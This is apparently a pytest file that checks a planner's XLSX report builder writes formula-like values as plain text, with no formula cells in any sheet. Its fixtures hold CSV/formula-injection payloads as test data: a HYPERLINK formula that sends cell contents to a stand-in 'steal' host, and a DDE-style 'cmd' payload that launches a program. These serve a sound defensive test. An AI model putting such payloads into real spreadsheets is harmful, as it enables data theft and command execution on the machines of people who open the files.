"""XLSX cells that a spreadsheet would read as a formula are written as text (issue 10): a workload
named ``=HYPERLINK(...)`` must open as that string, in every sheet, with no formula cell anywhere."""

from __future__ import annotations

import copy
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from planner.reports.builders import FORMULA_PREFIXES, build_xlsx
from planner.reports.content import Kpi, ReportContent

HOSTILE = '=HYPERLINK("http://example.invalid/steal?"&A1,"click")'


@pytest.fixture(scope="module")
def workbook(built):
    inputs = copy.deepcopy(built.inputs)
    inputs["name"] = HOSTILE
    inputs["workloads"][0]["name"] = "+1+cmd|' /C calc'!A0"
    inputs["description"] = "@SUM(1+1)"
    inputs["hardware"][0]["name"] = "-2+3"
    inputs["workloads"][1]["name"] = "\t=1+1"
    content = ReportContent(
        run_id=1,
        scenario_name=HOSTILE,
        organisation="=1+1",
        scenario_version=1,
        finished_at=None,
        generated_at=datetime(2027, 1, 1, tzinfo=UTC),
        code_version="=code",
        schema_version=1,
        data_version="\rdata",
        input_hash="h",
        inputs=inputs,
        result=built.result,
        hourly=built.hourly,
        kpis=[Kpi(path="peak_facility_power_mw", label="=KPI()", value=1.0, unit="MW")],
        devices=1,
        sources=[{"item": "=item", "field": "f", "value": "=1", "unit": "@u", "source": "-src", "assumption": "+a"}],
    )
    return load_workbook(io.BytesIO(build_xlsx(content)))


def test_no_cell_of_any_sheet_is_a_formula(workbook):
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []


def test_hostile_names_open_as_the_same_text(workbook):
    texts = {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for value in (HOSTILE, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "=item", "-src", "+a"):
        assert value in texts, value
    assert any(text.startswith(FORMULA_PREFIXES) for text in texts)


def test_numbers_stay_numbers(workbook):
    hourly = next(workbook["Hourly"].iter_rows(min_row=2, max_row=2, values_only=True))
    assert all(isinstance(value, int | float) for value in hourly)
